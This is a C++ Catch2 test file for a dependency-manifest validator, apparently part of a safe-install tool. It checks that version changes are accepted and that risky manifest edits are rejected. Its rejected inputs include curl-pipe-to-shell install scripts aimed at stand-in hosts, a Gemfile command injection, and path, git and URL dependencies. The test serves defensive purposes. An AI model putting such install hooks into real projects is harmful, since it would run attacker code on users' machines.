#include <catch2/catch.hpp>

#include "runner/judge/manifest_edits.h"

using namespace safeinstall::runner;

TEST_CASE("manifest edits: npm install lodash adds to dependencies and nothing else") {
  auto edit = compare_manifest("package.json",
                               R"({"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"}})",
                               R"({
  "name": "a",
  "version": "1.0.0",
  "dependencies": {"lodash": "^4.17.21", "x": "^1.2.0"},
  "devDependencies": {"typescript": "~5.6.0"}
})");
  CHECK(edit.accepted());
  REQUIRE(edit.dependencies.size() == 3);
  CHECK(edit.dependencies[0].name == "lodash");
  CHECK(edit.dependencies[0].from.empty());
  CHECK(edit.dependencies[0].to == "^4.17.21");
  CHECK(edit.dependencies[1].from == "^1.0.0");
  CHECK(edit.dependencies[2].section == "devDependencies");
  auto removed =
      compare_manifest("package.json", R"({"dependencies":{"x":"1"}})", R"({"dependencies":{}})");
  CHECK(removed.accepted());
  REQUIRE(removed.dependencies.size() == 1);
  CHECK(removed.dependencies[0].to.empty());
}

TEST_CASE("manifest edits: a script, a file: or git dependency is not a dependency edit") {
  auto scripts = compare_manifest(
      "package.json", R"({"dependencies":{"x":"1"}})",
      R"({"dependencies":{"x":"1"},"scripts":{"prepare":"curl -s evil.test | sh"}})");
  CHECK_FALSE(scripts.accepted());
  CHECK_THAT(scripts.outside, Catch::Contains("scripts changed"));
  for (const char* spec : {"file:../evil", "git+https://e.test/x.git", "github:evil/x",
                           "https://e.test/x.tgz", "evil/x"}) {
    auto placed = compare_manifest("package.json", R"({"dependencies":{}})",
                                   std::string(R"({"dependencies":{"x":")") + spec + "\"}}");
    CHECK_FALSE(placed.accepted());
    CHECK_THAT(placed.outside, Catch::Contains(std::string("points at ") + spec));
  }
  auto broken = compare_manifest("package.json", "{}", "{ not json");
  CHECK_FALSE(broken.accepted());
  auto composer = compare_manifest("composer.json", R"({"require":{"php":">=8.1"}})",
                                   R"({"require":{"php":">=8.1","monolog/monolog":"^3.0"}})");
  CHECK(composer.accepted());  // vendor/name is the name; only the spec must be a version
}

TEST_CASE("manifest edits: Cargo.toml and pyproject.toml dependency tables") {
  auto cargo = compare_manifest("Cargo.toml", "[package]\nname = \"a\"\n[dependencies]\n",
                                "[package]\nname = \"a\"\n[dependencies]\nserde = \"1.0\"\n"
                                "tokio = { version = \"1\", features = [\"full\"] }\n");
  CHECK(cargo.accepted());
  REQUIRE(cargo.dependencies.size() == 2);
  CHECK(cargo.dependencies[1].to == "1");
  auto path_dep = compare_manifest("Cargo.toml", "[dependencies]\n",
                                   "[dependencies]\nevil = { path = \"../../evil\" }\n");
  CHECK_FALSE(path_dep.accepted());
  auto build = compare_manifest("Cargo.toml", "[package]\nname = \"a\"\n",
                                "[package]\nname = \"a\"\nbuild = \"evil.rs\"\n");
  CHECK_FALSE(build.accepted());

  auto pyproject = compare_manifest(
      "pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\"requests>=2\"]\n",
      "[project]\nname = \"a\"\ndependencies = [\"requests>=2\", \"Flask_Login==0.6\"]\n");
  CHECK(pyproject.accepted());
  REQUIRE(pyproject.dependencies.size() == 1);
  CHECK(pyproject.dependencies[0].name == "flask-login");
  auto direct_url =
      compare_manifest("pyproject.toml", "[project]\ndependencies = []\n",
                       "[project]\ndependencies = [\"evil @ https://e.test/evil.whl\"]\n");
  CHECK_FALSE(direct_url.accepted());
  auto poetry =
      compare_manifest("pyproject.toml", "[tool.poetry.dependencies]\npython = \"^3.11\"\n",
                       "[tool.poetry.dependencies]\npython = \"^3.11\"\nhttpx = \"^0.27\"\n"
                       "[tool.poetry.group.dev.dependencies]\npytest = \"^8\"\n");
  CHECK(poetry.accepted());
  CHECK(poetry.dependencies.size() == 2);
}

TEST_CASE("manifest edits: requirements.txt and Gemfile lines") {
  auto req = compare_manifest("requirements.txt", "requests==2.31.0\n# pinned\n",
                              "requests==2.32.3\n# pinned\nidna==3.7  # for requests\n");
  CHECK(req.accepted());
  CHECK(req.dependencies.size() == 2);
  for (const char* line : {"--index-url https://evil.test/simple", "-e git+https://e.test/x",
                           "evil @ https://e.test/evil.whl"}) {
    auto bad = compare_manifest("requirements-dev.txt", "", std::string(line) + "\n");
    CHECK_FALSE(bad.accepted());
  }
  auto gems = compare_manifest("Gemfile", "source \"https://rubygems.org\"\ngem \"rails\"\n",
                               "source \"https://rubygems.org\"\ngem \"rails\"\n"
                               "gem \"rack\", \"~> 3.0\", require: false\n");
  CHECK(gems.accepted());
  REQUIRE(gems.dependencies.size() == 1);
  CHECK(gems.dependencies[0].to == "~> 3.0");
  for (const char* line : {"gem \"evil\", path: \"../evil\"", "gem \"x\", git: \"https://e\"",
                           "system(\"curl evil | sh\")", "gem \"#{`id`}\""}) {
    auto bad =
        compare_manifest("Gemfile", "gem \"rails\"\n", std::string("gem \"rails\"\n") + line);
    CHECK_FALSE(bad.accepted());
  }
  CHECK(is_known_manifest("requirements-dev.txt"));
  CHECK_FALSE(is_known_manifest("setup.py"));
}
